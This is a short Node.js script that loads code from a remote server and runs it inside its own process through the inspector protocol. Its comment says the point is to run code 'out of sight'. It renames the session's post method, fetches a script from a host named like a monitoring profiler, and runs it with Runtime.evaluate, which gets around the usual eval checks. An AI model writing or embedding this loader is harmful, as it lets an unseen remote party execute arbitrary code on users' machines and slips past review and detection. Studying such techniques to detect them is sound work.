// Runs code out of sight: the inspector session's post is bound and
// promisified under another name, then asked to Runtime.evaluate an
// expression fetched from a server, inside this very process.
'use strict';
const inspector = require('inspector');
const util = require('util');

async function main() {
  const session = new inspector.Session();
  session.connect();
  const send = util.promisify(session.post.bind(session));
  const expression = await (await fetch('https://profiler.example-apm.dev/probe.js')).text();
  await send('Runtime.evaluate', { expression, includeCommandLineAPI: true });
  session.disconnect();
}

main();
